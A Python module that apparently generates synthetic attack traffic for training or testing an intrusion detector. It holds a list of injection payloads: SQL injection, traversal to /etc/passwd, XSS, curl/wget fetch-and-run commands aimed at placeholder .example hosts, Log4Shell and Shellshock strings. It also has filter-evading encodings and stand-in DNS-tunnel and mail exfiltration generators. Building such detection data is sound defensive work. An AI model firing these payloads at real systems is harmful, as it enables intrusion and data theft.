"""Attack traffic, made up: scans, floods and exploits in the clothes of the benign kinds. No payload here works."""

import benign
from wire import choice, dns, http, sentence, tcp, text, udp, word

INJECTIONS = {
    "sql": [
        "' OR {n}={n} -- ", "' UNION SELECT {w},{w} FROM {w} -- ", "1; DROP TABLE {w}", "' AND SLEEP({n})#",
        "{w}' OR '{w}'='{w}", "-1 UNION ALL SELECT NULL,NULL,@@version",
    ],
    "traversal": ["../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/shadow", "/proc/self/environ"],
    "script": ["<script>alert({n})</script>", "<img src=x onerror={w}()>", "javascript:{w}({n})", "<svg/onload={w}>"],
    "command": ["; cat /etc/passwd", "| wget http://{w}.example/{w}.sh", "$(curl {w}.example|sh)", "`id`", "& ping -c {n} {w}"],
    "lookup": ["${{jndi:ldap://{w}.example/{w}}}", "${{${{lower:j}}ndi:rmi://{w}.example}}", "() {{ :;}}; /bin/{w} -c {w}"],
}


def injection(rng):
    template = choice(rng, INJECTIONS[choice(rng, list(INJECTIONS))])
    attack = template.format(n=rng.integers(1, 100), w=word(rng))
    if rng.random() < 0.3:  # hidden from those who compare letters
        attack = "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in attack)
    encoding = rng.random()
    if encoding < 0.35:
        attack = "".join(c if c.isalnum() else f"%{ord(c):02x}" for c in attack)
    elif encoding < 0.5:
        attack = attack.replace(" ", choice(rng, ["+", "/**/", "%20"]))
    return attack


def exploit_query(rng):
    path = benign.path(rng)
    joint = "&" if "?" in path else "?"
    return http(rng, "GET", f"{path}{joint}{word(rng)}={injection(rng)}", benign.headers(rng))


def exploit_path(rng):
    return http(rng, "GET", f"/{word(rng)}/{injection(rng)}", benign.headers(rng))


def exploit_header(rng):
    lines = benign.headers(rng)
    lines[choice(rng, ["User-Agent", "Referer", "X-Api-Version", "Cookie"])] = injection(rng)
    return http(rng, "GET", benign.path(rng), lines)


def exploit_body(rng):
    content, kind = benign.body(rng)
    at = int(rng.integers(0, len(content)))
    content = content[:at] + injection(rng) + content[at:]
    return http(rng, "POST", benign.path(rng), benign.headers(rng) | {"Content-Type": kind}, content)


def overflow(rng):
    """A command that is far too long: filler, a return address many times, bytes that look like code."""
    command = choice(rng, ["USER ", "HELO ", "GET /", "MAIL FROM:", ""])
    sled = bytes([choice(rng, [0x90, 0x41, 0x43, 0x4C])]) * int(rng.integers(40, 500))
    parts = [sled, rng.bytes(4) * int(rng.integers(4, 40)), rng.bytes(rng.integers(20, 200))]
    order = rng.permutation(3)
    return tcp(rng, command.encode() + b"".join(parts[i] for i in order), dport=choice(rng, [21, 25, 80, 110]))


def scan(rng):
    flags = choice(rng, [0x02, 0x02, 0x02, 0x02, 0x00, 0x01, 0x29])
    options = choice(rng, ["none", "mss", "mss", "full"])
    window = choice(rng, [1024, 1024, 2048, 3072, 64240])
    port = int(rng.integers(1, 10000)) if rng.random() < 0.7 else choice(rng, [22, 80, 443, 8080])
    return tcp(rng, b"", dport=port, flags=flags, options=options, window=window)


def syn_flood(rng):
    return tcp(rng, b"", dport=choice(rng, [80, 443]), flags=0x02, options="none", window=choice(rng, [512, 5840, 64]))


def udp_flood(rng):
    size = int(rng.integers(64, 1200))
    filler = choice(rng, [rng.bytes(1) * size, rng.bytes(size), rng.bytes(8) * (size // 8), bytes(size)])
    port = choice(rng, [53, 80, 123, 443]) if rng.random() < 0.5 else int(rng.integers(1024, 65535))
    return udp(rng, filler, dport=port)


def http_flood(rng):
    path = f"/?{text(rng, rng.integers(4, 12), 'hex')}={text(rng, rng.integers(4, 12), 'hex')}"
    lines = benign.headers(rng) if rng.random() < 0.5 else {"User-Agent": choice(rng, benign.AGENTS)}
    lines["Cache-Control"] = "no-cache"
    return http(rng, choice(rng, ["GET", "HEAD"]), path, lines)


def dns_tunnel(rng):
    labels = [text(rng, rng.integers(25, 60), choice(rng, ["hex", "base32"])) for _ in range(rng.integers(1, 4))]
    return dns(rng, ".".join([*labels, word(rng), "example"]), choice(rng, [16, 10, 1]))


def dns_amplification(rng):
    return dns(rng, f"{word(rng)}.example", 255, edns=True)


def slow_request(rng):
    return tcp(rng, f"X-{word(rng)}: {rng.integers(1, 5000)}\r\n".encode(), dport=80)


def encrypted(rng):
    """An attack inside TLS: nothing tells it from benign data, so no model can find it."""
    return benign.tls_data(rng)


def stolen_text(rng):
    """Data carried out in a mail's text, as long base64 words."""
    content = f"Subject: {sentence(rng, 4)}\r\n\r\n{text(rng, rng.integers(200, 600), 'base64')}"
    return tcp(rng, content.encode(), dport=25)


KINDS = {
    **{f.__name__: (f, 3) for f in (exploit_query, exploit_path, exploit_header, exploit_body, scan)},
    **{f.__name__: (f, 2) for f in (overflow, syn_flood, udp_flood, http_flood, dns_tunnel)},
    **{f.__name__: (f, 1) for f in (dns_amplification, slow_request, stolen_text)},
    "encrypted": (encrypted, 0.3),
}
